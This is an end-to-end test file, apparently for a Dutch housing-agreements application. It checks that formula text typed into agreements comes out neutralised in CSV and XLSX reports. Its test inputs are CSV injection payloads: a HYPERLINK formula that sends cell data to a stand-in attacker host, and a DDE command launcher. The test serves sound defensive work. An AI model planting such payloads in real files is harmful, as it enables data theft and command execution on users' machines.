import type { INestApplicationContext } from '@nestjs/common';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { startTestApp, type TestApp } from './support/test-app';
import { startTestWorker, wachtTot } from './support/test-worker';
import { ok as paOk, Q } from './prestatieafspraak.helpers';

/**
 * Issue 10.5 end to end: hostile text typed into a prestatieafspraak (its title and the
 * omschrijving of its afspraken) reaches a real quarterly report's CSV and XLSX neutralised, as
 * OWASP's CSV Injection page asks (https://owasp.org/www-community/attacks/CSV_Injection):
 * in the CSV no cell starts with =, +, -, @, tab, CR or LF, and a value starting with `"` is escaped;
 * in the XLSX such a text is a string cell in the Text format, shown as typed (no apostrophe).
 */
const TITEL = '=HYPERLINK("https://aanvaller.example/?"&A1;"Klik hier")';
const OMSCHRIJVINGEN = [
  "+cmd|' /C calc'!A0",
  '@SUM(1+9)*cmd|x',
  '"Aanhalingsteken; =1+2" en verder',
  '-2+3+cmd|x',
];

describe('safe exports: formulas from user text are neutralised in a real report (CSV and XLSX)', () => {
  let t: TestApp;
  let worker: INestApplicationContext;
  let bestanden: { formaat: string; url: string }[];

  beforeAll(async () => {
    t = await startTestApp();
    worker = await startTestWorker(t.config);
    const domstad = await t.orgId('L0801');
    const huurders = await t.orgId('HO-DOMSTAD');
    const bzk = await t.orgId('BZK');
    // more statushouders housed in H1 2026 than its taakstelling asked: a negative saldo (VOORSPRONG),
    // a figure that must stay a number
    await t.db.query(
      `INSERT INTO taakstelling (indicator_code, gebied_soort, gebied_code, periode_van, periode_tot, waarde, gesteld_door_id)
       VALUES ('STATUSHOUDERS_GEHUISVEST', 'GEMEENTE', 'GM0344', '2026-01-01', '2026-06-30', 1, $1)`,
      [bzk],
    );
    await t.db.query(
      `INSERT INTO toewijzing (corporatie_id, gemeente_code, datum, aandachtsgroep, huishoudgrootte, segment, via_urgentie, extern_kenmerk)
       SELECT $1, 'GM0344', date '2026-05-01' + n, 'STATUSHOUDERS', 4, 'SOCIALE_HUUR', false, encode(sha256(('veilig-' || n)::bytea), 'hex')
       FROM generate_series(1, 6) n`,
      [domstad],
    );
    let pa = await paOk(t, 'gemeente.utrecht', Q.create, {
      i: {
        gemeenteCode: 'GM0344',
        titel: TITEL,
        jaarVan: 2026,
        jaarTot: 2026,
        partijIds: [domstad, huurders],
      },
    });
    for (const omschrijving of OMSCHRIJVINGEN) {
      pa = await paOk(t, 'gemeente.utrecht', Q.voegAfspraakToe, {
        id: pa.id,
        v: pa.versie,
        i: {
          actielijn: 'EVENWICHTIGE_VERDELING',
          aandachtsgroep: 'STATUSHOUDERS',
          omschrijving,
          indicatorCode: 'TOEWIJZINGEN_STATUSHOUDERS',
          doelwaarden: [{ jaar: 2026, waarde: 6 }],
          verantwoordelijkeId: domstad,
        },
      });
    }
    pa = await paOk(t, 'gemeente.utrecht', Q.indienen, { id: pa.id, v: pa.versie });
    for (const als of ['gemeente.utrecht', 'corporatie.domstad', 'huurders.domstad']) {
      pa = await paOk(t, als, Q.tekenen, { id: pa.id, v: pa.versie });
    }
    expect(pa.status).toBe('VASTGESTELD');

    const aanvraag = await t.ok(
      'gemeente.utrecht',
      `mutation { vraagKwartaalrapportageAan(gebied: { soort: GEMEENTE, code: "GM0344" }, kwartaal: "2026-Q3") { jobId } }`,
    );
    const klaar = await wachtTot(
      'the report',
      async () => {
        const r = await t.ok(
          'gemeente.utrecht',
          `query ($id: String!) { rapportageAanvraag(jobId: $id) { status rapportages { actielijn bestanden { formaat url } } } }`,
          {
            id: aanvraag.vraagKwartaalrapportageAan.jobId,
          },
        );
        if (r.rapportageAanvraag.status === 'MISLUKT') throw new Error('report job failed');
        return r.rapportageAanvraag.status === 'GEREED' ? r.rapportageAanvraag : undefined;
      },
      240_000,
    );
    bestanden = klaar.rapportages.find((r: { actielijn: string }) => r.actielijn === 'ALLE').bestanden;
    // a report run takes minutes on a loaded build machine
  }, 300_000);

  afterAll(async () => {
    await worker?.close();
    await t?.close();
  });

  const download = async (formaat: string) => {
    const url = bestanden.find((b) => b.formaat === formaat)!.url;
    const res = await t.fetch(url, { als: 'gemeente.utrecht' });
    expect(res.status).toBe(200);
    return Buffer.from(await res.arrayBuffer());
  };

  it('CSV: the title and every omschrijving arrive with a leading quote, the `"` value escaped, no cell starts a formula', async () => {
    const tekst = (await download('CSV')).toString('utf8').replace(/^\uFEFF/, '');
    const cellen = (parse(tekst, { delimiter: ';', relax_column_count: true }) as string[][]).flat();
    expect(cellen).toContain(`'${TITEL}`);
    expect(cellen).toContain("'+cmd|' /C calc'!A0");
    expect(cellen).toContain("'@SUM(1+9)*cmd|x");
    expect(cellen).toContain("'-2+3+cmd|x");
    expect(cellen).toContain('"Aanhalingsteken; =1+2" en verder');
    // the raw file: the `"` value is a quoted field with doubled quotes, so its `;` starts no cell
    expect(tekst).toContain(';"""Aanhalingsteken; =1+2"" en verder";');
    const gevaarlijk = cellen.filter((c) => /^[=+\-@\t\r\n]/.test(c) && !/^[+-][\d.,]+%?$/.test(c));
    expect(gevaarlijk).toEqual([]);
  });

  it('XLSX: the same text cells as typed (no apostrophe), string cells marked Text; a negative figure stays a number', async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await download('XLSX')) as unknown as ArrayBuffer);
    const tekst: string[] = [];
    const getallen: number[] = [];
    const formuleAchtig: { waarde: string; numFmt: string | undefined; type: ExcelJS.ValueType }[] = [];
    wb.eachSheet((ws) =>
      ws.eachRow((row) =>
        row.eachCell((cel) => {
          if (typeof cel.value === 'string') tekst.push(cel.value);
          if (typeof cel.value === 'number') getallen.push(cel.value);
          expect(cel.type).not.toBe(ExcelJS.ValueType.Formula);
          if (
            typeof cel.value === 'string' &&
            /^[=+\-@\t\r\n]/.test(cel.value) &&
            !/^[+-][\d.,]+%?$/.test(cel.value)
          )
            formuleAchtig.push({ waarde: cel.value, numFmt: cel.numFmt, type: cel.type });
        }),
      ),
    );
    expect(tekst).toEqual(expect.arrayContaining([TITEL, ...OMSCHRIJVINGEN]));
    // no apostrophe shows (exceljs cannot write Excel's hidden quotePrefix) ...
    expect(tekst.filter((c) => c.startsWith("'"))).toEqual([]);
    // ... and every text that looks like a formula is a string cell in the Text format, so
    // opening the file never runs it and editing the cell keeps it text
    expect(formuleAchtig.length).toBeGreaterThanOrEqual(4);
    for (const c of formuleAchtig)
      expect(c).toEqual({ waarde: c.waarde, numFmt: '@', type: ExcelJS.ValueType.String });
    // the unmet statushouders taakstelling: Saldo is a negative number cell, not text
    const sh = wb.getWorksheet('Statushouders')!;
    const kop = (sh.getRow(1).values as string[]).indexOf('Saldo');
    const saldi: unknown[] = [];
    sh.eachRow((row, n) => n > 1 && saldi.push(row.getCell(kop).value));
    expect(saldi.every((v) => typeof v === 'number')).toBe(true);
    expect(saldi.some((v) => (v as number) < 0)).toBe(true);
    expect(getallen.some((n) => n < 0)).toBe(true);
  });
});
